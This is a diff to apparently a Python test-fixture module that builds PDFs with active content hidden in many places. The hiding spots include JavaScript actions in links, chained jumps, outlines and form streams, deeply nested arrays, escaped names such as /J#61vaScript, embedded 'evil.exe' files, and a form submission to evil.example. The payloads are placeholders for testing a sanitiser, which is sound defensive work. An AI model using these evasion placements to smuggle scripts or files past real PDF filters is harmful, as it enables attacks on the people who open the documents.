@@ -56,6 +56,91 @@ def busy_pdf() -> bytes:
     return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.disable)
 
 
+def _script(document: pikepdf.Pdf) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('EvilScript')")
+
+
+def _link(action: pikepdf.Object) -> pikepdf.Dictionary:
+    kind: dict[str, Any] = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Link, "Rect": [0, 0, 9, 9]}
+    return pikepdf.Dictionary(**kind, A=action)
+
+
+def _go_to(**more: Any) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]), **more)
+
+
+def _attached(document: pikepdf.Pdf) -> pikepdf.Dictionary:
+    file = pikepdf.Stream(document, b"MZ EvilProgram", Type=pikepdf.Name.EmbeddedFile)
+    return pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="evil.exe", EF=pikepdf.Dictionary(F=file))
+
+
+def _form(document: pikepdf.Pdf, **more: Any) -> None:
+    form = pikepdf.Stream(
+        document, b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 1, 1], **more
+    )
+    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=document.make_indirect(form)))
+
+
+def _annotate(document: pikepdf.Pdf, *annotations: pikepdf.Object) -> None:
+    document.pages[0].Annots = pikepdf.Array(list(annotations))
+
+
+def nested(depth: int, inside: pikepdf.Object) -> pikepdf.Object:
+    """Return a value inside dictionaries in arrays."""
+    for _ in range(depth):
+        inside = pikepdf.Array([pikepdf.Dictionary(X=inside)])
+    return inside
+
+
+# Where active content hides, by what it is.
+HIDDEN_CONTENT: dict[str, Callable[[pikepdf.Pdf], None]] = {
+    "an action of a direct annotation": lambda d: _annotate(d, _link(_script(d))),
+    "a script after a jump": lambda d: _annotate(d, _link(_go_to(Next=_script(d)))),
+    "a script after a jump, in a list": lambda d: _annotate(
+        d, _link(_go_to(Next=pikepdf.Array([_go_to(), _script(d)])))
+    ),
+    "an address that is a script": lambda d: _annotate(
+        d, _link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="JavaScript:EvilScript()"))
+    ),
+    "a form that is sent": lambda d: _annotate(
+        d, _link(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/EvilScript"))
+    ),
+    "another file that opens": lambda d: _annotate(
+        d, _link(pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="EvilProgram.pdf", D=pikepdf.Array([0])))
+    ),
+    "actions of a stream": lambda d: _form(d, AA=pikepdf.Dictionary(O=_script(d))),
+    "metadata of a stream": lambda d: _form(
+        d, Metadata=d.make_indirect(pikepdf.Stream(d, b"<x>EvilScript</x>", Type=pikepdf.Name.Metadata))
+    ),
+    "a field below a field": lambda d: d.Root.__setitem__(
+        "/AcroForm",
+        pikepdf.Dictionary(Fields=pikepdf.Array([pikepdf.Dictionary(T="a", Kids=pikepdf.Array([_link(_script(d))]))])),
+    ),
+    "an outline": lambda d: d.Root.__setitem__(
+        "/Outlines", pikepdf.Dictionary(First=pikepdf.Dictionary(Title="a", A=_script(d)), Count=1)
+    ),
+    "a file of an annotation": lambda d: _annotate(
+        d, pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=_attached(d))
+    ),
+    "a file of a page": lambda d: d.pages[0].__setitem__("/AF", pikepdf.Array([_attached(d)])),
+    "a file in a tree of names": lambda d: d.Root.__setitem__(
+        "/Names",
+        pikepdf.Dictionary(
+            Dests=pikepdf.Dictionary(Kids=pikepdf.Array([pikepdf.Dictionary(Names=["a", _attached(d)])]))
+        ),
+    ),
+    "a script in a deep array": lambda d: d.Root.__setitem__("/Extra", nested(20, _script(d))),
+    "a name with an escape": lambda d: d.Root.__setitem__(
+        "/Extra", pikepdf.Object.parse(b"[<< /S /J#61vaScript /J#53 (EvilScript) >>]")
+    ),
+}
+
+
+def hidden_content(name: str) -> bytes:
+    """Return a PDF with active content where HIDDEN_CONTENT says."""
+    return pdf(HIDDEN_CONTENT[name], object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
+
+
 def pdf_bomb() -> bytes:
     """Return a small PDF with a stream that decompresses to 500 MB."""
 
